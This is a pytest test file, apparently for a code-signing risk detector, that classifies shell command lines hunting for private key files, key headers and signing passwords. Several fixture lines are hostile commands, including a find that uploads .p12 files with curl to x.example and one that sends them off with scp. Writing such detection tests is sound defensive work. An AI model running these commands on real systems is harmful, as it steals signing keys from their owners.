"""Searches for key files: by name over folders and indexes, and by what stands inside of them."""

from __future__ import annotations

import pytest
from codesignrisk_core import keyfiles
from codesignrisk_core.model import Report

from tests.core.lines import ids, posix, windows


def found(report: Report | None) -> list[str]:
    return sorted(ids(report))


@pytest.mark.parametrize(
    ("line", "indicators"),
    [
        ("dir C:\\ /s /b *.pfx", ["hunt_key_files"]),
        ("dir /s/b D:\\*.p12", ["hunt_key_files"]),
        ("dir C:\\Users\\ann /s *.pvk", ["hunt_key_files"]),
        ("dir \\\\fs01\\c$ /s *.pfx", ["hunt_key_files", "input_remote"]),
        ("dir D:\\ /s .key", ["hunt_weak_key_files"]),
        # a whole home is searched for what may be keys all day; along with other secrets it is loot
        ("dir C:\\Users\\ann /s *.key", []),
        ("dir C:\\Users\\ann /s *.key *.txt", []),
        ("dir /s C:\\Users\\ann\\*.key C:\\Users\\ann\\*.kdbx", ["hunt_weak_key_files"]),
        ("dir C:\\Users\\ann\\ /s *pass* *.pem", ["hunt_weak_key_files"]),
        ("dir C:\\Users\\passat /s *.key", []),
        ("dir C:\\nginx\\conf /s *.key *pass*", []),
        ("dir C:\\ /s *.pfx *.p12", ["hunt_key_files", "several_key_kinds"]),
        ("dir /s /b *.pfx", ["search_key_files"]),
        ("dir C:\\certs\\web\\2024 /s *.pfx", ["search_key_files"]),
        ("dir C:\\certs\\*.pfx", ["list_key_files"]),
        ("dir C:\\nginx\\conf /s *.key", []),
        ("dir C:\\certs\\web.pfx", []),
        ("where /r C:\\ *.pfx", ["hunt_key_files"]),
        ("where openssl.exe", []),
        ('forfiles /p C:\\ /s /m *.p12 /c "cmd /c echo @path"', ["hunt_key_files"]),
        ('forfiles /p C:\\ /s /m *.p12 /c "cmd /c copy @path D:\\"', ["copy_key_files", "hunt_key_files"]),
        ("for /r C:\\Users %f in (*.pfx) do copy %f D:\\x", ["copy_key_files", "hunt_key_files"]),
        ('git log -p --all -- "*.pfx" "*.jks"', ["search_key_files", "several_key_kinds"]),
        ("git ls-files *.p12", ["search_key_files"]),
        ("git log --oneline -- web.pfx", []),
        ("git add *.pfx", []),
        ("es.exe ext:pfx;p12", ["hunt_key_files", "several_key_kinds"]),
        ("es.exe -path C:\\work\\app\\src *.pfx", ["search_key_files"]),
        ("wmic datafile where \"extension='pfx'\" get name", ["hunt_key_files"]),
        ('findstr /s /m /c:"BEGIN RSA PRIVATE KEY" C:\\*', ["hunt_key_headers"]),
        ('findstr /s /m "BEGIN PRIVATE KEY" *.*', ["hunt_key_files"]),
        ("findstr /e .pfx", ["list_key_files"]),
        ('findstr /s /i ".pfx" *.config', []),
        ('findstr /s "PRIVATE KEY" *.py', []),
        ("findstr /s /i BEGIN.RSA.PRIVATE.KEY C:\\Users\\*", ["hunt_key_headers"]),
        ("findstr /s private.api.key C:\\Users\\*", []),
        ('find /i ".pfx" list.txt', []),
    ],
)
def test_searches_on_windows(line: str, indicators: list[str]) -> None:
    assert found(keyfiles.judge(windows(line))) == indicators


@pytest.mark.parametrize(
    ("line", "indicators"),
    [
        ("find / -name *.p12", ["hunt_key_files"]),
        ("find / -name '*.p12' -o -name '*.jks'", ["hunt_key_files", "several_key_kinds"]),
        ("find / -regex '.*\\.\\(pfx\\|p12\\)'", ["hunt_key_files", "several_key_kinds"]),
        ("find ~ -iname *.pfx", ["hunt_key_files"]),
        (
            "find / -name *.p12 -exec curl -F f=@{} https://x.example/ ;",
            ["copy_key_files", "hunt_key_files", "key_leaves_host"],
        ),
        ("find / -name *.p12 -exec cp {} /srv ;", ["copy_key_files", "hunt_key_files"]),
        ("find / -name *.p12 -exec cp {} /tmp/k ;", ["copy_key_files", "hunt_key_files", "output_user_writable"]),
        ("find . -name *.p12", ["search_key_files"]),
        ("find / -name *.pem", ["hunt_weak_key_files"]),
        ("find / -name cacert.pem", []),
        ("find /etc -name *.key", []),
        ("find / -name web.pfx.txt", []),
        ("fd -e pfx . /", ["hunt_key_files"]),
        ("locate .p12", ["hunt_key_files"]),
        ("mdfind -name .p12", ["hunt_key_files"]),
        ("mdfind -onlyin /work/app/src .p12", ["search_key_files"]),
        ("grep -rl BEGIN PRIVATE KEY /", ["hunt_key_headers"]),
        ("awk /BEGIN RSA PRIVATE KEY/ /home/*/*", ["hunt_key_headers"]),
        ("perl -ne 'print if /BEGIN EC PRIVATE KEY/' /home/*", ["hunt_key_headers"]),
        ("sed -n '/BEGIN PRIVATE KEY/p' server.pem", []),
        ("awk '{print $1}' /home/*", []),
        # the words parted in any way, and alternatives of a regular expression
        ("grep -rlE 'BEGIN (RSA|EC|DSA|OPENSSH) PRIV' /home", ["hunt_key_headers"]),
        ("grep -r -e BEGIN.RSA.PRIVATE /home/*", ["hunt_key_headers"]),
        ("grep -rE 'BEGIN[ A-Z]*PRIVATE' /srv", ["hunt_key_headers"]),
        ("rg 'BEGIN OPENSSH ' /", ["hunt_key_headers"]),
        ("grep -r 'BEGIN CERTIFICATE' /", []),
        ("grep -r 'begin transaction' /srv", []),
        ("grep -rn BEGIN PRIVATE KEY src", []),
        ("grep -E '\\.(pfx|p12)$'", ["list_key_files"]),
    ],
)
def test_searches_on_posix(line: str, indicators: list[str]) -> None:
    assert found(keyfiles.judge(posix(line))) == indicators


@pytest.mark.parametrize(
    ("cwd", "indicators"),
    [("C:\\", ["hunt_key_files"]), ("C:\\Users", ["hunt_key_files"]), ("C:\\src\\app\\lib", ["search_key_files"])],
)
def test_a_search_begins_where_the_shell_stands(cwd: str, indicators: list[str]) -> None:
    assert found(keyfiles.judge(windows("dir /s *.pfx", cwd))) == indicators


@pytest.mark.parametrize(
    ("line", "indicators"),
    [
        ('findstr /s /m /c:"signtool sign" \\\\fs1\\builds\\*.cmd', ["hunt_signing_secrets", "input_remote"]),
        ('findstr /s /i /c:".pfx /p" C:\\*.ps1', ["hunt_signing_secrets"]),
        ("findstr /s /m CSC_KEY_PASSWORD C:\\Users\\*.env", ["hunt_signing_secrets"]),
        ("grep -rE storePassword|keyPassword /home", ["hunt_signing_secrets"]),
        # one's own project, one file, another word
        ('findstr /s /m /c:"signtool sign" D:\\src\\app\\*.cmd', []),
        ("grep -r storePassword ./android", []),
        ("findstr signtool build.log", []),
        ("findstr /s /m signtool C:\\*.cmd", []),
        ("grep -rE monkeypasswords|keypasser /home", []),
    ],
)
def test_what_builds_sign_with_is_searched_for(line: str, indicators: list[str]) -> None:
    assert found(keyfiles.judge(windows(line))) == indicators


def first(line: str) -> str:
    report = keyfiles.judge(windows(line))
    return report.findings[0].sentence if report else ""


@pytest.mark.parametrize(
    ("line", "sentence"),
    [
        ("dir C:\\ /s *.pfx", "dir searches the whole machine for key files (.pfx)"),
        ("dir C:\\certs /s *.pfx *.key", "dir searches a whole home or top folder for key files (.key, .pfx)"),
        ("dir /s *.pfx", "dir searches a folder for key files (.pfx)"),
        ("dir D:\\ /s *.pem", "dir searches the whole machine for files that may be keys (.pem)"),
        ("dir *.pfx", "dir lists key files (.pfx)"),
        ('findstr /s /m "BEGIN PRIVATE KEY" C:\\*', "findstr searches files for private keys"),
        ("findstr .pfx", "findstr picks the names of key files out of a list"),
        ("dir C:\\certs", ""),
    ],
)
def test_it_is_told_in_a_sentence(line: str, sentence: str) -> None:
    assert first(line) == sentence


def test_a_relative_folder_before_a_colon_is_where_it_begins() -> None:
    report = keyfiles.judge(windows("where /r ab:*.pfx", "C:\\"))
    assert report is not None
    assert report.findings[0].sentence == "where searches a whole home or top folder for key files (.pfx)"


@pytest.mark.parametrize(
    ("line", "sentence"),
    [
        ("dir C:\\ /s *.pfx *.p12", "several kinds of key files are asked for at once"),
        ("dir D:\\ /s *.key *.pem *.pfx", "several kinds of key files are asked for at once"),
        ("dir \\\\fs1\\x /s *.pfx", "the search goes over a share"),
        ("dir C:\\Users\\*\\x /s *.pfx", "the search goes through other users' profiles"),
        ('forfiles /p C:\\ /s /m *.p12 /c "cmd /c move @path D:\\"', "move takes away what is found"),
    ],
)
def test_how_it_searches_is_told_too(line: str, sentence: str) -> None:
    report = keyfiles.judge(windows(line))
    assert report is not None
    assert report.findings[1].sentence == sentence
    assert report.action == "search_keys"


def test_what_is_found_may_be_sent_and_gathered() -> None:
    report = keyfiles.judge(posix("find / -name *.p12 -exec scp {} /tmp/x h: ;"))
    assert report is not None
    assert [found.sentence for found in report.findings[1:]] == [
        "scp takes away what is found",
        "scp sends what is found to another host",
        "what is found is gathered in a user-writable path",
    ]


@pytest.mark.parametrize("program", "cp mv scp rsync curl tar zip copy xcopy robocopy move".split())
def test_programs_that_take_away_what_is_found(program: str) -> None:
    indicators = found(keyfiles.judge(posix(f"find / -name *.p12 -exec /usr/bin/{program} {{}} x ;")))
    assert "copy_key_files" in indicators
    assert ("key_leaves_host" in indicators) == (program in ("curl", "scp", "rsync"))


@pytest.mark.parametrize("program", ["echo", "chmod", "openssl"])
def test_programs_that_do_not(program: str) -> None:
    assert found(keyfiles.judge(posix(f"find / -name *.p12 -exec {program} {{}} ;"))) == ["hunt_key_files"]


@pytest.mark.parametrize(
    ("line", "indicators"),
    [
        # two strong kinds, or three of any
        ("dir C:\\ /s *.key *.pem", ["hunt_weak_key_files"]),
        ("dir C:\\ /s *.pfx *.pem", ["hunt_key_files"]),
        ("dir C:\\ /s *.pfx *.pem *.key", ["hunt_key_files", "several_key_kinds"]),
        # where it begins: a folder, a pattern with its folder, a drive
        ("dir /s C:\\*.pfx", ["hunt_key_files"]),
        ("dir /s C:*.pfx", ["hunt_key_files"]),
        ("dir /s C:\\work\\app\\*.pfx", ["search_key_files"]),
        ("where /r C:\\work\\app *.pfx", ["search_key_files"]),
        ("where -R C:\\ *.pfx", ["hunt_key_files"]),
        # where's own: folder and pattern in one
        ("where C:\\certs:*.pfx", ["list_key_files"]),
        ("where *.pfx", ["list_key_files"]),
        # a build agent's own folder is no place to hunt in
        ("dir D:\\a /s *.pfx", ["hunt_key_files"]),
        ("dir C:\\jenkins /s *.pfx", ["search_key_files"]),
        # a certificate is no key
        ("dir C:\\ /s *.cer", []),
        ("dir C:\\ /s codesign.pfx", ["hunt_key_files"]),
        ("dir C:\\ /s server.key", []),
        # forfiles
        ("forfiles /m *.pfx", ["list_key_files"]),
        ("forfiles /s /m *.pfx", ["search_key_files"]),
        ("forfiles -P D:\\ -S -M *.pfx", ["hunt_key_files"]),
        ('forfiles /p D:\\ /s /m *.pfx /c "cmd.exe /c copy @path E:\\"', ["copy_key_files", "hunt_key_files"]),
        ('forfiles /p D:\\ /s /m *.pfx /c ""', ["hunt_key_files"]),
        # for: a set of files, with and without /r
        ("for %f in (*.pfx) do echo %f", ["list_key_files"]),
        ("for /r %f in (*.pfx) do echo %f", ["search_key_files"]),
        ("for /r D:\\ %f in (*.pfx)", ["hunt_key_files"]),
        ("for /r D:\\ %f in (*.pfx) do", ["hunt_key_files"]),
        ("for /r D:\\ %f (*.pfx) do copy", []),
        # wmic
        ("wmic datafile where \"extension='p12'\" list", ["hunt_key_files"]),
        ("wmic path CIM_DataFile where \"extension='p12'\" get name", ["hunt_key_files"]),
        ("wmic process where \"name='x.pfx'\" list", []),
        # findstr
        ('findstr /c:"PRIVATE KEY" /s C:\\*.txt', ["hunt_key_headers"]),
        ('findstr /si "PRIVATE KEY" *', ["hunt_key_files"]),
        ('findstr /s "PRIVATE KEY" *.pem', ["hunt_key_files"]),
        ('findstr /m "PRIVATE KEY" *.pem', []),
        ('findstr /s "PUBLIC KEY" C:\\*.pem', []),
        ('findstr /s "PRIVATE KEY" C:\\certs\\*', ["hunt_key_headers"]),
        ('findstr /s "PRIVATE KEY" C:\\certs\\web\\*', []),
        ('findstr -c:".pfx"', ["list_key_files"]),
        ('findstr ".pfx" list.txt', []),
        ('findstr ".txt .pfx"', ["list_key_files"]),
    ],
)
def test_more_searches_on_windows(line: str, indicators: list[str]) -> None:
    assert found(keyfiles.judge(windows(line))) == indicators


@pytest.mark.parametrize(
    ("line", "indicators"),
    [
        *(
            (f"find / {test} *.p12", ["hunt_key_files"])
            for test in ("-name", "-iname", "-path", "-ipath", "-regex", "-iregex", "-wholename", "-iwholename")
        ),
        ("find / -newer a.p12", []),
        *((f"find / -name *.p12 {runs} cp {{}} /srv ;", ["copy_key_files", "hunt_key_files"])
          for runs in ("-exec", "-execdir", "-ok")),
        ("find / -maxdepth 1 -name *.p12", ["list_key_files"]),
        ("find / -maxdepth 0 -name *.p12", ["list_key_files"]),
        ("find / -maxdepth 3 -name *.p12", ["hunt_key_files"]),
        ("find /srv/a/b / ( -name *.p12 )", ["hunt_key_files"]),
        ("find ! -name *.p12", ["search_key_files"]),
        *((f"{name} / -name *.p12", ["hunt_key_files"]) for name in ("gfind",)),
        *((f"{name} *.p12", ["hunt_key_files"]) for name in ("locate", "plocate", "mlocate", "mdfind", "es")),
        ("mdfind -onlyin / *.p12", ["hunt_key_files"]),
        ("es -parent /srv/a/b *.p12", ["search_key_files"]),
        ("fdfind -e p12 . /srv/a/b", ["search_key_files"]),
        ("fd p12", []),
        # the values of other options are no patterns
        *((f"fd {option} .p12 . /", [])
          for option in ("-E", "--exclude", "-d", "--max-depth", "-t", "-x", "-X", "--exec")),
        ("fd .p12", ["search_key_files"]),
        ("fd --extension p12 . /", ["hunt_key_files"]),
        ("fd .p12 /", ["hunt_key_files"]),
        *((f"{name} -r 'PRIVATE KEY' /", ["hunt_key_headers"]) for name in ("grep", "egrep", "fgrep", "zgrep")),
        *((f"grep {option} 'PRIVATE KEY' /", ["hunt_key_headers"])
          for option in ("-R", "--recursive", "--dereference-recursive")),
        *((f"{name} 'PRIVATE KEY' /", ["hunt_key_headers"]) for name in ("rg", "ag")),
        ("grep 'PRIVATE KEY' /etc/x", []),
        ("grep -r 'PRIVATE KEY' *.pem", []),
        # as a regular expression
        *((f"grep -r '{text}' /", ["hunt_key_headers"])
          for text in ("PRIVATE.KEY", "PRIVATE.*KEY", "PRIVATE.+KEY", "PRIVATE.?KEY", "PRIVATE\\sKEY", "PRIVATE\\s*KEY",
                       "PRIVATE[ ]KEY", "PRIVATE[ ]+KEY")),
        ("grep -r -e 'PRIVATE KEY' /", ["hunt_key_headers"]),
        ("grep -e .p12", ["list_key_files"]),
        ("grep --regexp=.p12", ["list_key_files"]),
        ("grep .p12 list", []),
        ("grep a.cer", []),
        ("grep -e .p12 list", []),
        ("grep -A 3 .p12", ["list_key_files"]),
        ("grep --max-count 3 .p12", ["list_key_files"]),
    ],
)  # fmt: skip
def test_more_searches_on_posix(line: str, indicators: list[str]) -> None:
    assert found(keyfiles.judge(posix(line))) == indicators
